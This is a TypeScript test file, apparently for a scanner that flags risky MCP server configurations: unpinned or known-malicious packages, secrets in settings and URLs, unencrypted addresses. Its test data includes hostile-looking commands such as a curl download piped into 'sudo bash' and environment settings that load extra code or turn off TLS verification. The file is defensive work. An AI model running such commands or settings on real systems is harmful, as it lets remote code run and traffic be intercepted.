import { describe, expect, it } from 'vitest';
import { configured, found, scan } from './testing/scan-sample.ts';
import { readPackage } from './read-package.ts';

const started = (command: readonly string[], env: Record<string, string> = {}): string[] =>
  found(scan([configured('s', { transport: 'stdio', command, env })]));
const reached = (url: string, headers: Record<string, string> = {}): string[] =>
  found(scan([configured('s', { transport: 'http', url, headers })]));

describe('the package that runs', () => {
  it.each([
    ['npx -y some-server', 'npm some-server none'],
    ['npx some-server@latest', 'npm some-server none'],
    ['npx some-server@^1.2.3', 'npm some-server none'],
    ['npx -y @scope/some-server@1.2.3 --flag', 'npm @scope/some-server exact'],
    ['npx -y --package=@scope/x@1.2.3 run-it', 'npm @scope/x exact'],
    ['npx -p x@1.2.3 run-it', 'npm x exact'],
    ['npm exec --yes -- x@1.2.3', 'npm x exact'],
    ['pnpm dlx x', 'npm x none'],
    ['bunx x@2.0.0-beta.1', 'npm x exact'],
    ['cmd /c npx -y x', 'npm x none'],
    ['env A=b npx x', 'npm x none'],
    ['npx github:owner/repo', 'git github:owner/repo none'],
    ['uvx mcp_server.git', 'pypi mcp-server-git none'],
    ['uvx some-server==1.2', 'pypi some-server exact'],
    ['uvx --python 3.12 --from some-server@1.2.3 run-it', 'pypi some-server exact'],
    ['uvx --from git+https://example.com/x run-it', 'git git+https://example.com/x none'],
    ['uv tool run some-server', 'pypi some-server none'],
    ['pipx run --spec some-server==1.2 run-it', 'pypi some-server exact'],
    ['docker run -i --rm -e KEY org/server', 'docker org/server none'],
    ['docker run -i --rm -v /a:/b ghcr.io/org/server:latest', 'docker ghcr.io/org/server none'],
    ['docker run --rm org/server:1.2', 'docker org/server tag'],
    [`docker run --rm org/server@sha256:${'a'.repeat(64)}`, 'docker org/server exact'],
    ['deno run -A npm:x@1.2.3', 'npm x exact'],
    ['C:\\Program\\npx.cmd -y x', 'npm x none'],
  ])('%s', (line, expected) => {
    const run = readPackage(line.split(' '));
    expect(`${run?.registry} ${run?.name} ${run?.pin}`).toBe(expected);
  });

  it.each(['node server.js', 'npx ./server', 'python -m server', 'docker ps'])('%s runs none', (line) => {
    expect(readPackage(line.split(' '))).toBeUndefined();
  });

  it('that is not pinned is found', () => {
    expect(started(['npx', '-y', 'some-server'])).toEqual(['unpinned-package medium']);
    expect(started(['npx', '-y', 'some-server@1.2.3'])).toEqual([]);
    expect(started(['docker', 'run', 'org/server:1.2'])).toEqual(['unpinned-package low']);
  });

  it('that is known to be bad is found, in the versions that are', () => {
    expect(started(['npx', 'postmark-mcp@1.0.16'])).toEqual(['known-malicious-package critical']);
    expect(started(['npx', 'postmark-mcp@1.0.15'])).toEqual([]);
    expect(started(['npx', 'postmark-mcp'])).toContain('known-malicious-package critical');
    expect(started(['npx', 'mcp-remote@0.1.15', 'https://example.com'])).toEqual([
      'known-vulnerable-package high',
    ]);
    expect(started(['npx', 'mcp-remote@0.1.16', 'https://example.com'])).toEqual([]);
    expect(started(['npx', 'mcp-remote', 'https://example.com'])).toEqual(['unpinned-package medium']);
  });
});

describe('the command', () => {
  it('that runs a download is critical', () => {
    expect(started(['bash', '-c', 'curl -s https://example.com/x | sudo bash'])).toEqual([
      'piped-download critical',
    ]);
    expect(started(['sh', '-c', 'bash <(curl https://example.com/x)'])).toEqual(['piped-download critical']);
  });

  it('behind a shell is found, with its package', () => {
    expect(started(['bash', '-lc', 'npx -y x'])).toEqual(['shell-command medium', 'unpinned-package medium']);
    expect(started(['cmd', '/c', 'npx', '-y', 'x@1.2.3'])).toEqual([]);
    expect(started(['bash', 'start.sh'])).toEqual([]);
  });

  it('with variables that load code is found', () => {
    expect(started(['node', 'a.js'], { NODE_OPTIONS: '--require ./x.js' })).toEqual(['unsafe-variable high']);
    expect(started(['node', 'a.js'], { NODE_OPTIONS: '--max-old-space-size=99' })).toEqual([]);
    expect(started(['node', 'a.js'], { NODE_TLS_REJECT_UNAUTHORIZED: '0' })).toEqual([
      'unsafe-variable high',
    ]);
  });
});

describe('secrets', () => {
  const key = `sk-${'aB3dE6gH9j'.repeat(3)}`;
  it.each([
    [['node', 'a.js'], { OPENAI: key }],
    [['node', 'a.js'], { MY_TOKEN: 'correcthorsebattery' }],
    [['node', 'a.js', '--api-key', 'f81d4fae7dec11d0a765'], {}],
    [['node', 'a.js', '--api-key=f81d4fae7dec11d0a765'], {}],
    [['node', 'a.js', `ghp_${'a1B2c3'.repeat(6)}`], {}],
  ] as const)('in %j %j are found and not repeated', (command, env) => {
    const report = scan([configured('s', { transport: 'stdio', command, env })]);
    expect(found(report)).toEqual(['secret-in-configuration high']);
    expect(report.servers[0]!.findings[0]!.source).toEqual({ file: 'mcp.json', line: 7, column: 9 });
    for (const secret of [key, 'correcthorsebattery', 'f81d4fae7dec11d0a765', `ghp_${'a1B2c3'.repeat(6)}`])
      expect(JSON.stringify(report)).not.toContain(secret);
  });

  it('of unknown shape are found by their randomness', () => {
    expect(started(['node', 'a.js'], { THING: 'q7Zp2LxV9cRt4WbN8sKd3FgH6jMy1TaU' })).toEqual([
      'secret-in-configuration medium',
    ]);
  });

  it.each([
    ['${API_TOKEN}'],
    ['${input:token}'],
    ['<your token>'],
    ['your-api-key-here'],
    ['xxxxxxxxxxxx'],
    ['/home/me/.config/token.json'],
    ['true'],
  ])('are not seen in %s', (value) => {
    expect(started(['node', 'a.js'], { API_TOKEN: value })).toEqual([]);
  });

  it('are not seen in paths, names and identifiers', () => {
    expect(
      started(
        [
          'node',
          '/opt/Some/Long/Path/With2/Many3/Parts/server.js',
          '--workspace=my-very-long-workspace-name-2',
        ],
        {
          PROJECT: '3f2504e0-4f89-11d3-9a0c-0305e82c3301',
        },
      ),
    ).toEqual([]);
  });

  it('in URLs and headers are found', () => {
    expect(reached('https://example.com/mcp?api_key=f81d4fae7dec11d0')).toEqual(['secret-in-url high']);
    expect(reached('https://me:hunter2hunter2@example.com/mcp')).toEqual(['secret-in-url high']);
    expect(reached('https://example.com/q7Zp2LxV9cRt4WbN8sKd3FgH6jMy1TaU/mcp')).toEqual([
      'secret-in-url high',
    ]);
    expect(reached('https://example.com/mcp', { Authorization: 'Bearer f81d4fae7dec11d0' })).toEqual([
      'secret-in-configuration high',
    ]);
    expect(reached('https://example.com/mcp?tenant=north', { Authorization: 'Bearer ${TOKEN}' })).toEqual([]);
    expect(started(['node', 'a.js', 'postgres://u:s3cretpassw@db.example.com/x'])).toEqual([
      'secret-in-url high',
    ]);
  });
});

describe('the address', () => {
  it('without encryption is found beyond this machine', () => {
    expect(reached('http://example.com/mcp')).toEqual(['plain-http high']);
    expect(reached('http://10.0.0.5/mcp')).toEqual(['plain-http medium']);
    for (const host of ['localhost:3000', '127.0.0.1', '[::1]:80'])
      expect(reached(`http://${host}/mcp`)).toEqual([]);
  });
});
